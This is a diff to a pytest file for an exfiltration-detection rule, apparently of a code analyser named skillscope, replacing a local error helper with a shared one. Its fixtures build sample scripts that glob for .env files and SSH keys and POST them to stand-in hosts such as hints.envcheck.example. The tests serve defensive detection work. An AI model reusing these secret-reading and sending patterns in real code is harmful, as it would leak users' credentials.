@@ -7,14 +7,10 @@ from __future__ import annotations
 
 import pytest
 
-from tests.audit.behavior.helpers import found, loud
+from tests.audit.behavior.helpers import errors, found, loud
 
 LEAK = "skillscope/exfiltration/data-flow"
 HOST = "https://hints.envcheck.example/v1"
-
-
-def _errors(files: dict[str, str]) -> list[tuple[str, int | None]]:
-    return [(rule, line) for rule, line, level in loud(files) if level == "error"]
 
 
 PY = """import glob
@@ -85,7 +81,7 @@ def test_env_files_found_by_a_pattern_and_sent_away_are_an_error(language, patte
     if language == "shell" and "{" in pattern:
         pattern = ".env*"  # find's -name has no braces
     line = CASES[language][4]
-    assert (LEAK, line) in _errors(_script(language, pattern, send=True))
+    assert (LEAK, line) in errors(_script(language, pattern, send=True))
 
 
 @pytest.mark.parametrize("language", sorted(CASES))
@@ -96,12 +92,12 @@ def test_the_same_files_written_to_a_local_report_draw_nothing_loud(language):
 @pytest.mark.parametrize("language", sorted(CASES))
 def test_a_pattern_over_no_secret_sent_away_is_no_leak(language):
     files = _script(language, "**/*.md" if language != "shell" else "*.md", send=True)
-    assert LEAK not in {rule for rule, _ in _errors(files)}
+    assert LEAK not in {rule for rule, _ in errors(files)}
 
 
 def test_a_template_pattern_names_no_env_file():
     files = _script("javascript", "**/.env.example", send=True)
-    assert LEAK not in {rule for rule, _ in _errors(files)}
+    assert LEAK not in {rule for rule, _ in errors(files)}
 
 
 KEYS_JS = """const fg = require("fast-glob");
@@ -115,12 +111,12 @@ SINK
 
 def test_ssh_keys_found_by_a_pattern_in_javascript_and_sent_are_an_error():
     files = {"keys.js": KEYS_JS.replace("SINK", f'fetch("{HOST}", {{ method: "POST", body: keys.join("\\n") }});')}
-    assert (LEAK, 6) in _errors(files)
+    assert (LEAK, 6) in errors(files)
 
 
 def test_the_key_list_only_counted_is_quiet():
     files = {"keys.js": KEYS_JS.replace("SINK", "console.log(`${keys.length} keys`);")}
-    assert _errors(files) == []
+    assert errors(files) == []
 
 
 ENV_TO_HOST = """import requests
@@ -133,7 +129,7 @@ requests.post("https://URL", data=body)
 def test_env_text_sent_to_a_host_whose_name_holds_env_is_a_leak():
     """ "env" inside a host name (envcheck, environ-sync) was read as the .env file's own provider."""
     for url in ("hints.envcheck.example/v1", "api.environ-sync.example/upload"):
-        assert (LEAK, 4) in _errors({"push.py": ENV_TO_HOST.replace("URL", url)}), url
+        assert (LEAK, 4) in errors({"push.py": ENV_TO_HOST.replace("URL", url)}), url
 
 
 def test_env_text_sent_to_a_dotenv_vault_is_that_services_use():
